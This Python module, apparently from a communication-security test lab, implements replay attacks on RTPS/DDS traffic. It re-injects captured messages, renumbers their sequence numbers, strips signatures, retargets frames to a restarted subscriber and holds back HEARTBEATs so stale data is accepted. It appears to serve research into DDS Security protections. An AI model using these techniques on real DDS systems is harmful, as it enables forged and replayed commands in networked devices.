"""RTPS messages sent again: as they were, renumbered, or to a participant that came later."""

import struct
import time
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import replace
from itertools import pairwise, zip_longest
from typing import TYPE_CHECKING

from comseclab.attack import rtps_wire as wire
from comseclab.attack.deliveries import IN_FLIGHT_NS
from comseclab.attack.frame import Frame
from comseclab.attack.rtps_known import Known, message_in
from comseclab.attack.rtps_wire import Message
from comseclab.protection.rtps import Submessage

if TYPE_CHECKING:
    from comseclab.attack.scene import Scene

REPLAYED = 20
SENT_BEFORE = 5
ROUNDS, PAUSE_S = 3, 0.1
"""To a restarted reader all is sent again some times, as it may not have matched the writer yet."""


def again(scene: "Scene", known: Known, *, resequenced: bool) -> str:
    """Send the last messages again, renumbered to follow the last if `resequenced`; returns what was sent, in words."""
    frames = scene.messages()[-REPLAYED:]
    copies = renumbered(frames, known) if resequenced else frames
    for copy in copies:
        scene.inject_on_path(copy)
    return f"{len(copies)} copies of {len(frames)} frames sent again"


def to_restarted(scene: "Scene", known: Known) -> str:
    """Send what was sent before the subscriber's restart, from the first message on, to its new participant.

    That has heard nothing else so far (see `hold_back`): to it the numbers are new, so that no signature is in the way.
    """
    frames = before_restart(scene, known)
    copies = loosened(frames)
    for _ in range(ROUNDS):
        for copy in copies:
            scene.inject_on_path(to_new_participant(copy, known))
        time.sleep(PAUSE_S)
    return f"{len(copies)} copies of {len(frames)} earlier frames sent {ROUNDS} times to the new participant"


def before_restart(scene: "Scene", known: Known) -> list[Frame]:
    """The stream's messages from before the subscriber's restart, with the HEARTBEATs among them.

    Those not that may have been on their way when it was told to restart: they would not count as old.
    """
    until_ns = (scene.restarted_ns or 0) - IN_FLIGHT_NS
    messages = [frame for frame in scene.messages() if frame.at_ns < until_ns]
    earlier = [frame for frame in list(scene.path.seen) if frame.at_ns < until_ns]
    return [frame for frame in earlier if is_of_stream(frame, scene, messages, known)]


def loosened(frames: Sequence[Frame]) -> list[Frame]:
    """All frames as they were; then all with less of their protection, as a receiver may not insist on it.

    Without the signature of the whole, INFO_DST is free to name a new participant.
    """
    rows = [[frame, *(frame.with_payload(m.raw()) for m in wire.loosened(_of(frame)))] for frame in frames]
    return [copy for copies in zip_longest(*rows) for copy in copies if copy is not None]


def renumbered(frames: Sequence[Frame], known: Known) -> list[Frame]:
    """All messages with numbers that follow the last.

    Numbers that are signed are altered all the same: first with the signature left out, as a receiver may not insist on
    it, then with it, as a receiver may not look. Those that are encrypted cannot be altered.
    """
    numbers = _next_numbers(frames, known)
    copies = [
        frame.with_payload(_renumbered(_of(frame), numbers, signed=signed).raw())
        for signed in (False, True)
        for frame in frames
    ]
    return list(dict.fromkeys(copies))  # there may be no signature to leave out


def to_new_participant(frame: Frame, known: Known) -> Frame:
    """The frame to where the subscriber's participant is now; what is signed stays."""
    message = _of(frame)
    message = replace(message, parts=tuple(_retargeted(message.parts, known.reader.prefix)))
    return _redirected(frame, known.reader.user[1]).with_payload(message.raw())


def hold_back(scene: "Scene", known: Known) -> None:
    """From now on keep the stream from the subscriber until the attack ends.

    What may be a HEARTBEAT, which tells a new reader with which number to begin, comes to it only behind old messages.
    """
    messages = scene.messages()
    first = loosened(messages[:SENT_BEFORE])

    def rule(frame: Frame) -> list[tuple[float, Frame]]:
        if is_of_stream(frame, scene, messages, known):
            scene.targeted += scene.dialect.is_message(frame, scene)
            return []
        if may_be_heartbeat(frame, scene):
            for old in first:
                scene.inject_on_path(_redirected(old, frame.destination[1]).with_payload(old.payload))
        return [(0.0, frame)]

    scene.follow(rule)


def may_be_heartbeat(frame: Frame, scene: "Scene") -> bool:
    """Whether a frame from writer to reader that is no message of the stream hides all its submessages.

    Its size tells little: a HEARTBEAT alone makes a SEC_BODY of 60 to 156 bytes, by INFO_DST before it and a protection
    of its own, and Cyclone DDS also packs several into one message.
    """
    if (frame.source[0], frame.destination[0]) != (scene.writer.address, scene.reader.address):
        return False
    message = message_in(frame)
    kinds = [part.kind for part in message.parts] if message else []
    return (wire.SRTPS_PREFIX, wire.SEC_BODY) in pairwise(kinds)


def is_of_stream(frame: Frame, scene: "Scene", messages: Sequence[Frame], known: Known) -> bool:
    """Whether a frame carries a message of the stream or a HEARTBEAT or GAP of its writer.

    These are known by the writer where it is readable, by the port where that is not discovery's too, or by the key
    of each submessage. Where only whole RTPS messages are encrypted, HEARTBEATs are not known from others.
    """
    if (frame.source[0], frame.destination[0]) != (scene.writer.address, scene.reader.address):
        return False
    if scene.dialect.is_message(frame, scene):
        return True
    ports = {message.destination[1] for message in messages}
    if known.reader.user[1] != known.reader.metatraffic[1] and frame.destination[1] in ports:
        return True
    found = message_in(frame)
    if found is None:
        return False
    keys = {key for message in messages[-1:] for key in wire.keys_of(_of(message))}
    return bool(keys & set(wire.keys_of(found))) or any(map(wire.is_user, wire.writers_of(found)))


def _of(frame: Frame) -> Message:
    message = message_in(frame)
    assert message is not None, "or it were no message of the stream"
    return message


def _next_numbers(frames: Iterable[Frame], known: Known) -> dict[int, int]:
    """For each number in the frames one that follows the last, in the same order."""
    old = (data.number for frame in frames for data in wire.data_of(_of(frame)) if data.writer == known.entity)
    return {number: known.last + 1 + place for place, number in enumerate(dict.fromkeys(old))}


def _renumbered(message: Message, numbers: Mapping[int, int], *, signed: bool) -> Message:
    """The message with other numbers, its signatures kept or left out; as it was where all is hidden."""
    fresh = {
        id(data.part): numbers[data.number] for data in wire.data_of(message) if data.of_user and data.number in numbers
    }
    if not fresh:
        return message
    parts = message.parts if signed else wire.unprotected(message.parts)
    renumbered = (wire.renumbered(part, fresh[id(part)]) if id(part) in fresh else part for part in parts)
    # A HEARTBEAT would tell the true numbers.
    return replace(message, parts=tuple(part for part in renumbered if part.kind != wire.HEARTBEAT))


def _retargeted(parts: Iterable[Submessage], prefix: bytes) -> Iterator[Submessage]:
    """Addressed to another participant, and to any reader there; what is signed stays."""
    signed = False
    for part in parts:
        signed = signed or part.kind in (wire.SRTPS_PREFIX, wire.SEC_PREFIX)
        if part.kind == wire.INFO_DST and not signed:
            yield replace(part, body=prefix)
        elif part.kind in (wire.DATA, wire.DATA_FRAG) and not signed:
            yield wire.for_any_reader(part)
        else:
            yield part
        signed = signed and part.kind not in (wire.SRTPS_POSTFIX, wire.SEC_POSTFIX)


def _redirected(frame: Frame, port: int) -> Frame:
    """The frame to another UDP port of its target."""
    header = 14 + 4 * (frame.raw[14] & 0x0F)
    raw = frame.raw[: header + 2] + struct.pack(">H", port) + frame.raw[header + 4 :]
    return replace(frame, raw=raw)
